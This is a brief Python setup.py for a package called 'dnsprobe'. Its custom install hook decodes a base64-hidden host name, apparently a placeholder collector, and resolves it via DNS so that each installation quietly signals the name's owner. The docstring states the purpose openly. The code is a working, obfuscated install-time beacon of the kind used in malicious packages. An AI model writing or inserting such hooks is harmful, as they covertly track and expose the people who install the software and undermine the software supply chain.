"""A custom install command that looks up a host name written in base64: the lookup itself
tells the name's owner, through DNS, that the package was installed, and the encoding hides
whose name it is."""
import base64
import socket

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        socket.gethostbyname(base64.b64decode("cHJvYmUuY29sbGVjdG9yLmV4YW1wbGUuaW52YWxpZA=="))
        install.run(self)


setup(name="dnsprobe", version="1.0", packages=[], cmdclass={"install": Install})
